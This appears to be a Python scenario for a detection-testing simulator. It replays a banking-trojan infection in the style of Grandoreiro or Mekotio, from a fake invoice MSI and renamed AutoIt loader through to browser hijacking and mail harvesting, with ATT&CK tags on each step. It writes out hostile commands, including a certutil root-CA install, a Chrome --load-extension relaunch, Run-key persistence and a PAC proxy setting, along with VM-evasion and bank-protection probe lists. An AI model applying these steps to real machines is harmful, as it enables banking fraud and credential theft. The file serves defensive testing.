"""A bill as a package: a renamed AutoIt runs a script that fills a Delphi library's host; it looks for banks' protection,
plants a proxy, a certificate and a browser extension, reads mail addresses. Resembles Grandoreiro, Mekotio and Coyote of
2023-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-04-22T13:25:50", "user": "LAP-MX\\Lourdes", "home": "C:\\Users\\Lourdes", "computer": "LAP-MX"}
HOME = r"C:\ProgramData\Sdoc7731"
CONTROL = ("198.51.100.120", 42022)
SETTINGS = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings"
MACHINES = (r"HKLM\HARDWARE\ACPI\DSDT\VBOX__", r"HKLM\SOFTWARE\Oracle\VirtualBox Guest Additions",
            r"HKLM\SOFTWARE\VMware, Inc.\VMware Tools")
GUARDS = (r"C:\Program Files (x86)\Trusteer\Rapport", r"C:\Program Files\Diebold\Warsaw", r"C:\Program Files (x86)\GbPlugin",
          r"C:\Program Files\Topaz OFD\Warsaw", r"C:\Program Files (x86)\Scpad")


def story(c):
    desktop = Desktop(c)
    for address, name in (("203.0.113.44", "ip-api.com"), ("203.0.113.45", "facturas-cfe.example"),
                          ("203.0.113.46", "dns.google")):
        c.host(address, name)
    installer = c.system(c.system_root + r"\System32\msiexec.exe", c.system_root + r"\system32\msiexec.exe /V",
                         parent=desktop.services)
    desktop.murmur(7)
    package = c.home + r"\Downloads\CFE_Factura_22042024.msi"
    client = deeds.tool(c, desktop.explorer, '"C:\\Windows\\System32\\msiexec.exe" /i "%s"' % package)
    c.read(client, package, 700_000, 131072)
    action = c.spawn(installer, r"C:\Windows\SysWOW64\msiexec.exe",
                     r"C:\Windows\syswow64\MsiExec.exe -Embedding 7B1DD0F1A2E34B6C", is_64bit=False, user=c.user,
                     integrity="Medium", session=1, sid=desktop.explorer.sid)
    c.load(action, c.home + r"\AppData\Local\Temp\MSI2B10.tmp")
    desktop.resolve()
    with c.behaviour("the package's own code fetches an archive", "medium", ("T1105", "T1218.007"),
                     (client, action, installer), ("facturas-cfe.example", "wq.zip")):
        c.exchange(action, ("203.0.113.45", 80), 49610, [210], [14_600] * 30)
        c.drop(action, HOME + r"\wq.zip", 430_000)
    with c.behaviour("brings an AutoIt of its own under a name of chance", "medium",
                     ("T1059.010", "T1105", "T1036.003", "T1036"), (client, action, installer),
                     ("Qe7wVx.exe", "Qe7wVx.ahk", "Qe7wVx")):
        c.read(action, HOME + r"\wq.zip", 430_000)
        for name, size in (("Qe7wVx.exe", 900_000), ("Qe7wVx.a3x", 120_000), ("sqlite3.dll", 600_000),
                           ("borlndmm.dll", 310_000)):
            c.drop(action, HOME + "\\" + name, size, 131072)
        c.delete(action, HOME + r"\wq.zip")
    with deeds.told(c, "that AutoIt runs its script, which loads a library beside it", "high", ("T1059.010", "T1574.001"),
                    (action, installer, client),
                    ("Qe7wVx.a3x", "borlndmm.dll")) as helpers:
        trojan = c.spawn(action, HOME + r"\Qe7wVx.exe", '"%s\\Qe7wVx.exe" Qe7wVx.a3x' % HOME, directory=HOME + "\\",
                         is_64bit=False,
                         company="AutoIt Team", description="AutoIt v3 Script")
        deeds.begin(c, trojan)
        c.read(trojan, HOME + r"\Qe7wVx.a3x", 120_000)
        c.load(trojan, HOME + r"\borlndmm.dll", 0x12000000)
        helpers.append(trojan)
    c.exit(action)
    c.exit(client)
    with c.behaviour("looks whether the machine is virtual", "medium", ("T1497.001", "T1497", "T1082"), trojan,
                     ("VBOX__", "VirtualBox", "VMware")):
        for key in MACHINES:
            c.open_key(trojan, key, result="NAME NOT FOUND")
        c.query(trojan, r"HKLM\HARDWARE\DESCRIPTION\System\SystemBiosVersion", "REG_MULTI_SZ", ["ALASKA - 1072009"])
        for name in ("VBoxMouse.sys", "vmhgfs.sys", "VBoxGuest.sys"):
            c.probe(trojan, c.system_root + r"\System32\drivers" + "\\" + name)
    with c.behaviour("asks for the language and the country", "low", ("T1614.001", "T1614"), trojan,
                     ("Geo", "LocaleName", "ip-api.com")):
        c.query(trojan, r"HKCU\Control Panel\International\Geo\Nation", "REG_SZ", "166")
        c.query(trojan, r"HKCU\Control Panel\International\LocaleName", "REG_SZ", "es-MX")
        c.exchange(trojan, ("203.0.113.44", 80), 49620, [180], [420])
    with c.behaviour("looks for the protection of banks", "medium", ("T1518.001", "T1518", "T1083"), trojan,
                     ("Trusteer", "Warsaw", "GbPlugin")):
        for path in GUARDS:
            c.probe(trojan, path, "PATH NOT FOUND")
    with c.behaviour("starts with every log-on", "medium", "T1547.001", trojan, "Qe7wVx"):
        c.set_value(trojan, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Qe7wVx", "REG_SZ",
                    '"%s\\Qe7wVx.exe" %s\\Qe7wVx.a3x' % (HOME, HOME))
    desktop.resolve(55003)
    with c.behaviour("works its server's name out over a public resolver of the web", "low",
                     ("T1568.002", "T1071.004", "T1568"), trojan, "dns.google"):
        c.exchange(trojan, ("203.0.113.46", 443), 49621, [517, 220], [3900, 500])
    with c.behaviour("stays with a server on an odd port", "medium", ("T1571", "T1095", "T1071"), trojan,
                     ("198.51.100.120", "42022")):
        c.net(trojan, "Connect", CONTROL, 49622)
        for _ in range(15):
            c.net(trojan, "Send", CONTROL, 49622, 24)
            c.net(trojan, "Receive", CONTROL, 49622, 24)
            c.wait(8)
    with c.behaviour("leads the browsers over a script of its own", "high", ("T1090", "T1112", "T1557", "T1565.002"),
                     trojan, "AutoConfigURL"):
        c.set_value(trojan, SETTINGS + r"\AutoConfigURL", "REG_SZ", "http://198.51.100.121/mx.pac")
    with deeds.told(c, "has a certificate authority of its own trusted", "high", "T1553.004", trojan,
                    ("certutil", "ca.crt", "Root")) as helpers:
        c.drop(trojan, HOME + r"\ca.crt", 1300)
        helpers += deeds.command(c, trojan, r"certutil.exe -addstore -user -f Root C:\ProgramData\Sdoc7731\ca.crt",
                                 shell=False)
        key = r"HKCU\Software\Microsoft\SystemCertificates\Root\Certificates\5F0C1D2233445566778899AABBCCDDEEFF001122"
        c.key(helpers[-1], key, new=True)
        c.set_value(helpers[-1], key + r"\Blob", "REG_BINARY", bytes(range(200)))
    with deeds.told(c, "ends the browser, and starts it with an extension of its own", "high",
                    ("T1176.001", "T1176", "T1185"), trojan,
                    ("load-extension", "manifest.json")) as helpers:
        for name, size in (("manifest.json", 900), ("background.js", 14_000), ("content.js", 31_000)):
            c.drop(trojan, HOME + "\\ext\\" + name, size)
        helpers += deeds.command(c, trojan, "taskkill /f /im chrome.exe")
        browser = c.spawn(trojan, r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                          r'chrome.exe --load-extension="C:\ProgramData\Sdoc7731\ext" --restore-last-session',
                          company="Google LLC")
        for name in ("manifest.json", "background.js"):
            c.read(browser, HOME + "\\ext\\" + name, 900)
        helpers.append(browser)
    with c.behaviour("gathers addresses of the user's mail", "high", ("T1114.001", "T1087.003"), trojan,
                     (".ost", ".pst", "Outlook")):
        deeds.list_folder(c, trojan, c.home + r"\AppData\Local\Microsoft\Outlook")
        c.read(trojan, c.home + r"\AppData\Local\Microsoft\Outlook\lourdes@taller.example.ost", 1_400_000, 65536)
        c.drop(trojan, HOME + r"\mls.txt", 9000)
        c.read(trojan, HOME + r"\mls.txt", 9000)
    with c.behaviour("takes the screen again and again", "low", "T1113", trojan, (".jpg", "tela")):
        for number in range(5):
            c.drop(trojan, HOME + r"\tela%d.jpg" % number, 90_000)
            c.read(trojan, HOME + r"\tela%d.jpg" % number, 90_000)
            c.delete(trojan, HOME + r"\tela%d.jpg" % number)
    desktop.murmur(5)
